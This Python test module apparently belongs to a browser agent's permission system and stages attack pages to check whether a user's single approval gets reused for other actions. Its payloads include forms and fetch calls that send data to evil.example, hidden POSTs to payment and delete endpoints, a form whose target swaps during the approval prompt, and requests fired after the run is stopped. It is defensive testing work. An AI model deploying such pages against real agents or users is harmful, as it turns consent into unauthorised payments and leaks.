"""A yes to one thing that is used for another."""

import asyncio

from pilotfish.enforcement.approvals import ALLOW_ONCE
from pilotfish.enforcement.policy_history import ALLOW_FOR_RUN

from ..attack_arena import Arena
from ..attack_cases import Case, Outcome, attack

SEND = (
    """<form method=post action=/send><label>Message <textarea name=m></textarea></label><button>Send</button></form>"""
)
YES = {"input_timeout": 3.0}


async def try_answers(arena: Arena, case: Case, preset: str, *answers: str) -> Outcome:
    """A case whose person gives these answers and no more; they are asked only where the preset asks."""
    url = arena.open_case(case)
    _, record = await arena.start(case, url, preset, **(YES if answers else {}))
    story = await arena.follow(record, [*answers, *["Deny"] * 20])
    return arena.outcome(story, arena.lines(case))


@attack("send")
async def a_yes_to_sending_is_used_for_a_form_of_another_site(arena: Arena, preset: str) -> Outcome:
    form = """<form method=post action='http://evil.example:PORT/in'><textarea name=m>x</textarea>
    <button>Send it</button></form>"""
    case = Case(
        name="",
        html=SEND,
        orders=(("click", "Send", {}), ("navigate", "", {"action": "back"}), ("click", "Send it", {})),
    )
    case = case.model_copy(update={"html": SEND + form})
    return await try_answers(arena, case, preset, ALLOW_FOR_RUN)


@attack("buy")
async def a_yes_to_an_upload_is_used_to_buy(arena: Arena, preset: str) -> Outcome:
    html = """<form method=post action=/do/order enctype=multipart/form-data>
    <label>Picture <input type=file name=f></label>
    <label>Card number <input name=card autocomplete=cc-number value=4111></label><button>Upload</button></form>"""
    orders = (("upload", "Picture", {"path": "notes.txt"}), ("click", "Upload", {}))
    case = Case(name="", html=html, orders=orders, files={"notes.txt": "mine"})
    return await try_answers(arena, case, preset, ALLOW_FOR_RUN)


@attack("buy")
async def a_yes_to_sending_whose_page_also_buys(arena: Arena, preset: str) -> Outcome:
    html = """<label>Message <textarea></textarea></label>
    <button onclick="fetch('/send', {method: 'POST', body: 'm=hi'});
    fetch('/do/pay', {method: 'POST', body: 'amount=900'})">Send</button>"""
    case = Case(name="", html=html, orders=(("click", "Send", {}),))
    return await try_answers(arena, case, preset, ALLOW_ONCE)


@attack("leak")
async def a_yes_to_sending_whose_page_also_tells_another_site(arena: Arena, preset: str) -> Outcome:
    html = """<label>Message <textarea></textarea></label>
    <button onclick="fetch('/send', {method: 'POST'});
    fetch('http://evil.example:PORT/in', {method: 'POST', body: 'x'})">Send</button>"""
    case = Case(name="", html=html, orders=(("click", "Send", {}),))
    return await try_answers(arena, case, preset, ALLOW_ONCE)


@attack("send")
async def a_yes_to_sending_is_used_by_a_frame_without_an_origin(arena: Arena, preset: str) -> Outcome:
    html = """<iframe name=f sandbox=allow-scripts src='http://evil.example:PORT/ad'></iframe>
    <label>Message <textarea></textarea></label>
    <button onclick="fetch('/send', {method: 'POST'}); f.postMessage(1, '*')">Send</button>"""
    ad = """<script>onmessage = () => fetch('http://shop.example:PORT/do/it',
    {method: 'POST', mode: 'no-cors', body: 'to=mallory'})</script>"""
    orders = (("wait_for", "", {"kind": "time", "value": "300"}), ("click", "Send", {}))
    case = Case(name="", html=html, sites={"evil.example/ad": ad}, orders=orders, harm=("/do/",))
    return await try_answers(arena, case, preset, ALLOW_ONCE)


@attack("send")
async def a_yes_to_one_message_is_used_for_a_second_by_another_action(arena: Arena, preset: str) -> Outcome:
    html = """<label>Message <textarea></textarea></label>
    <button onclick="fetch('/send', {method: 'POST'})">Send</button>
    <div role=button tabindex=0 onmouseenter="fetch('/do/send', {method: 'POST'})">Picture</div>"""
    case = Case(name="", html=html, orders=(("click", "Send", {}), ("hover", "Picture", {})))
    return await try_answers(arena, case, preset, ALLOW_ONCE)


@attack("visit")
async def a_yes_to_leaving_is_used_to_pay_there(arena: Arena, preset: str) -> Outcome:
    pages = {"pay.example/in": "<form method=post action=/do/pay><button>Continue</button></form>"}
    orders = (("navigate", "", {"url": "http://pay.example/in"}), ("click", "Continue", {}))
    case = Case(name="", orders=orders, sites=pages)
    return await try_answers(arena, case, preset, ALLOW_FOR_RUN)


@attack("visit")
async def a_yes_to_one_site_is_used_for_another(arena: Arena, preset: str) -> Outcome:
    orders = (("navigate", "", {"url": "http://pay.example/in"}), ("navigate", "", {"url": "http://evil.example/in"}))
    return await try_answers(arena, Case(name="", orders=orders), preset, ALLOW_FOR_RUN)


@attack("delete")
async def a_yes_to_deleting_one_thing_is_used_for_all(arena: Arena, preset: str) -> Outcome:
    html = """<div><button onclick="fetch('/drop', {method: 'POST'})">Delete draft</button></div>
    <button onclick="act('all')">Delete account</button>"""
    case = Case(name="", html=html, orders=(("click", "Delete draft", {}), ("click", "Delete account", {})))
    return await try_answers(arena, case, preset, ALLOW_ONCE)


@attack("buy")
async def a_button_that_changes_while_the_person_is_asked(arena: Arena, preset: str) -> Outcome:
    html = """<form id=f method=post action=/send><button id=b>Send</button></form>
    <script>setTimeout(() => { f.action = '/do/pay'; b.textContent = 'Pay now' }, 900)</script>"""
    html = html.replace("900", "0") if preset == "allow" else html
    case = Case(name="", html=html, orders=(("click", "Pay now" if preset == "allow" else "Send", {}),))
    url = arena.open_case(case)
    _, record = await arena.start(case, url, preset, **YES)
    following = asyncio.create_task(arena.follow(record))
    async for event in arena.fish.follow(record.id):
        if event.type == "input_requested":
            await asyncio.sleep(1.2)
            await arena.fish.command(record.id, "answer", request=event.request, text=ALLOW_ONCE)
            break
    story = await following
    return arena.outcome(story, arena.lines(case))


@attack("buy")
async def a_request_that_waits_when_the_run_is_stopped(arena: Arena, preset: str) -> Outcome:
    html = """<button onclick="setTimeout(() => act('buy'), 50)">Show more</button>"""
    orders = (("click", "Show more", {}), ("wait_for", "", {"kind": "time", "value": "2000"}))
    case = Case(name="", html=html, orders=orders)
    url = arena.open_case(case)
    _, record = await arena.start(case, url, preset, input_timeout=5.0)
    following = asyncio.create_task(arena.follow(record, keep=True))
    await asyncio.sleep(1.0)
    await arena.fish.command(record.id, "stop")
    story = await following
    await asyncio.sleep(0.3)
    found = arena.lines(case)
    await arena.fish.browsers.close(record.conversation)
    return arena.outcome(story, found)


@attack("buy")
async def a_request_after_the_end_of_the_run(arena: Arena, preset: str) -> Outcome:
    html = """<button onclick="setTimeout(() => act('buy'), 1500)">Show more</button>"""
    html = html.replace("1500", "0") if preset == "allow" else html
    case = Case(name="", html=html, orders=(("click", "Show more", {}),))
    url = arena.open_case(case)
    _, record = await arena.start(case, url, preset)
    story = await arena.follow(record, keep=True)
    await asyncio.sleep(0 if preset == "allow" else 1.6)
    found = arena.lines(case)
    await arena.fish.browsers.close(record.conversation)
    return arena.outcome(story, found)
